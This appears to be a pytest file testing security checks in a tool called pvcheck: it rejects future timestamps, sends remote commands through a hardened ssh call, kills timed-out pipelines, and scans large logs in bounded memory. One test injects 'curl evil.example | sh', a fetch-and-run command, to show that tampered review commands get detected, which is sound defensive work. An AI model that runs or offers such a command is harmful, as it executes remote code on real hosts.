"""Security rows of docs/testing.md that need no engine: time stamps from the
future, the review's host commands, whole process groups at a deadline, bounded memory."""

from __future__ import annotations

import os
import subprocess
import sys
import time
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest

from pvcheck.claims import ColdCommand, differing_commands, m2_claim
from pvcheck.config import load_config
from pvcheck.errors import StateFileError
from pvcheck.protocol import parse_claims, parse_verdicts
from pvcheck.records import Gate, Verdict
from tests.helpers import LAB_CONFIG
from tests.unit.test_render import sample_report

pytestmark = pytest.mark.faults


def _future(hours: float = 24 * 365 * 73) -> str:
    return (datetime.now(UTC) + timedelta(hours=hours)).strftime("%Y-%m-%dT%H:%M:%SZ")


def test_a_future_review_verdict_is_refused_naming_file_and_line() -> None:
    text = f"# REVIEW\n\n## M1 — Control plane: **PASS** @{_future()}\n"
    with pytest.raises(StateFileError, match=r"REVIEW-pvcheck\.md:3: timestamp .* in the future"):
        parse_verdicts(text, "REVIEW-pvcheck.md")
    near = f"## M1 — Control plane: **PASS** @{_future(hours=0.01)}\n"  # within the skew
    assert parse_verdicts(near, "R")["M1"].verdict == Verdict.PASS


def test_a_future_claim_or_pass_header_in_status_is_refused(tmp_path: Path) -> None:
    from pvcheck.evidence import write_evidence

    cfg = load_config(LAB_CONFIG, {"docs": {"dir": str(tmp_path)}})
    write_evidence(sample_report(False), cfg)
    text = (tmp_path / "STATUS-pvcheck.md").read_text()
    future_claim = text.replace("Claimed @2026-11-26T12:00:09Z", f"Claimed @{_future()}", 1)
    assert future_claim != text
    with pytest.raises(StateFileError, match=r"S:\d+: timestamp .* in the future"):
        parse_claims(future_claim, "S")
    header = "## Gate: M1 — CLAIMED, awaiting Adversary"
    future_pass = text.replace(header, f"## Gate: M1 — PASS @{_future()}")
    with pytest.raises(StateFileError, match="in the future"):
        parse_claims(future_pass, "S")


def test_m2_how_lines_pvcheck_would_not_write_are_named() -> None:
    cfg = load_config(LAB_CONFIG)
    report = sample_report(False)
    regenerated = m2_claim(report, cfg).commands
    written = [c.command for c in regenerated]
    assert differing_commands(written, regenerated) == []
    edited = [w.replace("wc -l", "wc -l; curl evil.example | sh") for w in written]
    odd = differing_commands(edited, regenerated)
    assert odd and all("evil.example" in o or o.startswith("missing: ") for o in odd)
    assert any("evil.example" in o for o in odd)


class _RecordingSsh:
    remote = True

    def __init__(self) -> None:
        self.seen: list[list[str]] = []

    def argv(self, argv: list[str]) -> list[str]:
        self.seen.append(argv)
        return [sys.executable, "-c", "print(0)"]


def test_the_review_runs_host_commands_through_pvchecks_own_ssh() -> None:
    from pvcheck.tasks.review import run_cold_command

    host = _RecordingSsh()
    cmd = ColdCommand("ssh cc-ci 'docker ps -q | wc -l'", "0", remote="docker ps -q | wc -l")
    check = run_cold_command(cmd, "review.how.M2.1", Gate.M2, host)  # type: ignore[arg-type]
    assert host.seen == [["sh", "-c", "docker ps -q | wc -l"]]  # never bash -c 'ssh …'
    assert str(check.status) == "pass"


def test_the_ssh_argv_carries_batch_mode_host_keys_and_a_connect_timeout() -> None:
    from pvcheck.config import TargetConfig
    from pvcheck.hosts import host_for

    argv = host_for(TargetConfig(docker_host="ssh://root@cc-ci.example:22")).argv(["true"])
    joined = " ".join(argv)
    for option in ("BatchMode=yes", "StrictHostKeyChecking=yes", "ConnectTimeout="):
        assert option in joined


def _processes_with(marker: str) -> list[int]:
    found = []
    for cmdline in Path("/proc").glob("[0-9]*/cmdline"):
        try:
            if marker.encode() in cmdline.read_bytes():
                found.append(int(cmdline.parent.name))
        except OSError:
            continue
    return found


def test_a_cold_command_past_its_deadline_takes_its_whole_pipeline_with_it() -> None:
    from pvcheck.tasks.review import run_cold_command

    marker = "31.4159"
    cmd = ColdCommand(f"sleep {marker} | sleep {marker} | wc -l", "0")
    started = time.monotonic()
    check = run_cold_command(cmd, "review.how.M1.1", Gate.M1, None, timeout_s=1)
    assert time.monotonic() - started < 5
    assert check.found == "no answer within 1s"
    deadline = time.monotonic() + 5
    while _processes_with(marker) and time.monotonic() < deadline:
        time.sleep(0.1)
    assert _processes_with(marker) == []  # bash's children too, not only bash


def test_a_hostile_guard_grep_cannot_hang_the_run(tmp_path: Path) -> None:
    from pvcheck.procs import count_with

    started = time.monotonic()
    assert count_with([sys.executable, "-c", "import time; time.sleep(30)"], "x", 1) is None
    assert time.monotonic() - started < 5


SCAN_300MB = r"""
import sys
from datetime import UTC, datetime, timedelta
from pvcheck.logscan import CommandLogSource, error_family, scan_lines
gen = [sys.executable, "-c",
       "import sys\nline = 'x' * 299 + '\\n'\nfor _ in range(1_000_000): sys.stdout.write(line)\n"
       "print('level=error msg=\"could not find an available IP while allocating VIP\"')"]
now = datetime.now(UTC)
scan = scan_lines(CommandLogSource(gen).lines(now, now), error_family("proxy"),
                  now - timedelta(days=1), now + timedelta(days=1), 50, "gen")
# VmHWM: this program's own peak (ru_maxrss would carry over a large parent's from fork).
hwm = next(l for l in open("/proc/self/status") if l.startswith("VmHWM:"))
print(scan.vip_count, int(hwm.split()[1]) // 1024)
"""


def test_a_300_mb_command_log_is_scanned_in_bounded_memory() -> None:
    out = subprocess.run(
        [sys.executable, "-c", SCAN_300MB],
        capture_output=True,
        text=True,
        timeout=300,
        check=True,
        cwd=Path(__file__).resolve().parents[2],
        env={**os.environ, "PYTHONPATH": str(Path(__file__).resolve().parents[2])},
    )
    count, rss_mb = map(int, out.stdout.split())
    assert count == 1  # the one VIP line at the very end was seen
    assert rss_mb < 200, f"{rss_mb} MB peak RSS for a 300 MB log"
